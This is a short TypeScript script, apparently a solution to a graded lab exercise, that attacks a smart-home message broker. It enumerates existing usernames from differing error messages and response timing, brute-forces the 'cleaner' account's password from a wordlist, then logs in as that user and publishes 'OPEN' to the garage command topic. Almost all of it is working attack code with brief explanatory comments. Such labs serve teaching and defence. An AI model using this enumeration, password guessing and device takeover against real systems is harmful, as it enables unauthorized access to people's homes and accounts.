const names = (
  'admin anna ben carla cleaner david emma family felix garage gardener guest hallway heating hugo ida janitor john julia ' +
  'kitchen lars laura leo lights lisa lock lucas mail maria marie max mia michael nina oliver oscar owner parking paul ' +
  'peter pia postman root sam sarah security service simon sofia support tenant test theo thomas tom user visitor walter ' +
  'window zoe'
).split(' ');

async function attempt(userName: string, password: string) {
  const startedMs = lab.now();
  const outcome = await lab
    .connect({ clientId: `guess-${userName}`, userName, password })
    .catch((error: Error) => error);
  const tookMs = lab.now() - startedMs;
  if (outcome instanceof Error) return { said: outcome.message, tookMs };
  await outcome.endAsync();
  return { said: 'come in', tookMs };
}

// The code: what most names get is what a name gets that does not exist.
const answers: { userName: string; said: string; tookMs: number }[] = [];
for (const userName of names) answers.push({ userName, ...(await attempt(userName, 'wrong')) });
const counts = new Map<string, number>();
for (const { said } of answers) counts.set(said, (counts.get(said) ?? 0) + 1);
const [usual = ''] = [...counts].sort(([, a], [, b]) => b - a)[0] ?? [];
const existing = answers.filter(({ said }) => said !== usual);
lab.log('These exist:', existing.map(({ userName }) => userName).join(', '));

// The clock says the same, if less clearly: the slowest answers are theirs. A row of # is one answer in half milliseconds.
for (const { userName, tookMs } of answers.toSorted((a, b) => b.tookMs - a.tookMs).slice(0, 8)) {
  lab.log(userName.padEnd(10), '#'.repeat(Math.min(60, Math.round(tookMs * 2))), `${tookMs.toFixed(1)} ms`);
}

const found = await lab.guess(
  lab.words.slice(0, 400),
  async (word) => (await attempt('cleaner', word)).said === 'come in',
);
lab.log('The cleaner’s password:', found, await lab.answer('cleaner', found ?? ''));

const intruder = await lab.connect({ clientId: 'mop', userName: 'cleaner', password: found ?? '' });
await intruder.publishAsync('house/garage/cmd', 'OPEN', { qos: 1 });
await intruder.endAsync();
